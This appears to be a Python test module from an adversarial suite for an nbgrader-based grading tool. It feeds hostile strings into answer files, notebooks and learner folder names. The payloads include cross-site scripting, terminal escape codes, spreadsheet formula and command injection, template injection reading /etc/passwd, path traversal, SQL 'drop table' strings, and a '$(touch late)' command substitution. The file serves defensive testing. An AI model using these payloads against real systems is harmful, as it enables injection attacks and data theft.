"""Text that is aimed at the feedback page, the formgrader, the terminal and the exported file."""

import msgspec

from tests.adversarial.case import (
    BUT_FIRST,
    FIRST,
    FLAWED,
    FULL,
    GOOD,
    NOTHING,
    POOR,
    SECOND,
    THIRD,
    Case,
    answer,
    notebook,
    own_case,
    text,
)
from tests.adversarial.cells import WRITTEN, written

CAUSE = "card-1.cause"

PAGE = "</pre></section><script>alert(1)</script><img src=x onerror=alert(1)>"
TERMINAL = "\x1b[2J\x1b]0;owned\x07\x1b[31mred\r\b\x9b31m"
FORMULA = '=HYPERLINK("http://127.0.0.1:9/?"&A1,"10")'
ROUND = "\u202e\u2066\u200f01\u200b\u00ad"
LINE = "x\ntrust: 9,999 graded\n  Not graded: honest-in-the-middle: gone"

TEXTS = {
    "page": PAGE,
    "page-in-entities": "&lt;script&gt;&#60;script&#62;&amp;",
    "link": "[a prize](javascript:alert(1)) ![x](http://127.0.0.1:9/x.png)",
    "formula-of-mathematics": r"$\href{javascript:alert(1)}{x}$ \(x\)",
    "template": "{{ 7*7 }} {% include '/etc/passwd' %} ${7*7} %s %n",
    "terminal": TERMINAL,
    "sheet": FORMULA,
    "command-in-a-sheet": "+cmd|' /C calc'!A0",
    "reader": ROUND,
    "more-lines": LINE,
    "paths": "../../../etc/passwd\\..\\C:\\",
    "database": "'); drop table grade; --",
    "marks": "\ue000score people-or-business\ue000",
    "json": '", "scores": {"trust": 10}, "x": "',
}


def aimed(kind: str, hostile: str) -> Case:
    """Return a case with a text wherever an answer file may hold one."""
    contents = {
        FIRST: answer({hostile: hostile}),
        SECOND: answer({}, exercise=hostile, variant=hostile),
        THIRD: msgspec.json.encode({hostile: hostile}),
    }
    return Case(
        name=f"answers-for-the-{kind}",
        answers={f"{name}.json": content for name, content in contents.items()},
        scores=NOTHING,
        says={FIRST: "no such decision", SECOND: "this file answers", THIRD: "unknown field"},
    )


def reflection(name: str, source: str) -> Case:
    """Return a case that writes to whoever grades it."""
    return Case(
        name=name,
        assignment="reflection",
        do=notebook(written(source)),
        answers={f"{FIRST}.json": own_case(name)},
        scores=WRITTEN,
    )


def named(name: str, learner: str, kept_away: str = "") -> Case:
    """Return a case whose attack is the name of the learner's folder."""
    return Case(name=name, learner=learner, answers=POOR, scores=FLAWED, kept_away=kept_away)


NAMES = {
    "name-with-spaces": " eve  spaces ",
    "name-with-quotes": "eve'\"`$(touch late)`",
    "name-for-a-page": "<img src=x onerror=alert(1)>",
    "name-for-a-terminal": "eve\x1b[2J\x1b[31m\r",
    "name-for-a-sheet": "=1+1|A0",
    "name-like-an-option": "--force",
    "name-for-a-format": "{student_id}{0}%s",
    "name-for-a-regular-expression": r"(?P<x>.*)\d+$",
    "name-turned-round": "eve\u202etsenoh",
    "name-of-pictures": "🏳️‍🌈👩‍👩‍👧",
    "name-for-a-database": "'; drop table student; --",
    "name-with-two-dots": "eve..",
    "name-of-127-signs": "n" * 127,
}

CASES = (
    *(aimed(kind, hostile) for kind, hostile in TEXTS.items()),
    Case(
        name="option-for-the-page",
        answers={**GOOD, f"{FIRST}.json": answer({CAUSE: PAGE})},
        scores=BUT_FIRST,
        says={FIRST: "is not one of the options"},
    ),
    *(reflection(f"written-for-the-{kind}", hostile) for kind, hostile in TEXTS.items()),
    Case(
        name="notebook-for-the-page",
        do=notebook(
            lambda it: it["metadata"].update(title=PAGE, authors=[{"name": PAGE}]),
            lambda it: it["cells"].insert(0, text(PAGE)),
        ),
        scores=FULL,
    ),
    *(named(name, learner) for name, learner in NAMES.items()),
    named(
        "name-for-a-pattern",
        "[a-z]*?",
        kept_away="nbgrader takes it for a pattern, and spoils the submissions that it fits",
    ),
    named(
        "name-of-two-lines", "eve\ntrust: 9 graded", kept_away="nbgrader ends the whole batch at such a name"
    ),
    Case(
        name="name-without-signs",
        learner="eve-\udcff\udcfe",
        failed="no text",
        left="the gradebook takes text alone",
    ),
    Case(name="name-too-long", learner="n" * 200, failed="more than 128 characters"),
)
